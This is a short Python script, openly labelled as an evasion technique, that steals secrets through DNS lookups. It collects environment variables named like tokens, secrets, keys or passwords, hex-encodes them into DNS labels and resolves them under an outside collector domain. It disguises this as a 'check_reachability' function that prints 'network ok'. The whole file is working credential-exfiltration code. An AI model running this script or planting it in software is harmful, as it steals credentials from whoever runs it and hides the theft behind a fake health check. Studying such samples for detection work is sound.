# Evasion: sends secrets from the environment out through DNS lookups: each
# value is hex-encoded, cut into 60-character labels and resolved as
# <chunk>.<seq>.<tag>.q.dnslog-collector.net; the attacker's name server logs
# the queries. Hides as: no HTTP client and no connect() - only getaddrinfo,
# which looks like a host-reachability check.
import binascii
import os
import socket

ZONE = "q.dnslog-collector.net"
INTERESTING = ("TOKEN", "SECRET", "KEY", "PASSWORD")


def labels(value, size=60):
    encoded = binascii.hexlify(value.encode()).decode()
    return [encoded[i:i + size] for i in range(0, len(encoded), size)]


def resolve(name):
    try:
        socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)
    except socket.gaierror:
        pass


def check_reachability():
    for tag, (name, value) in enumerate(sorted(os.environ.items())):
        if not any(word in name for word in INTERESTING):
            continue
        for seq, chunk in enumerate(labels(name + "=" + value)):
            resolve(f"{chunk}.{seq}.{tag}.{ZONE}")


if __name__ == "__main__":
    check_reachability()
    print("network ok")
